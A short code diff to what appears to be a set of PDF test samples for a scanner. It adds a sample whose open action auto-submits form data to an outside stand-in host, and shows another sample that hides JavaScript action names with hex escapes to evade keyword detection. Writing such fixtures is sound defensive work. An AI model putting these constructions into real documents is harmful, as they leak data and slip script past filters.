@@ -66,6 +66,11 @@ class Samples:
         return _assembled([action, *_page_tree(1)], b"")
 
     @staticmethod
+    def pdf_that_submits() -> bytes:
+        action = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F (http://elsewhere.example/) >> >>"
+        return _assembled([action, *_page_tree(1)], b"")
+
+    @staticmethod
     def pdf_with_packed_script() -> bytes:
         """Objects in a compressed stream, the script's names spelled with escapes (ISO 32000-1, 7.3.5, 7.5.7)."""
         script = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
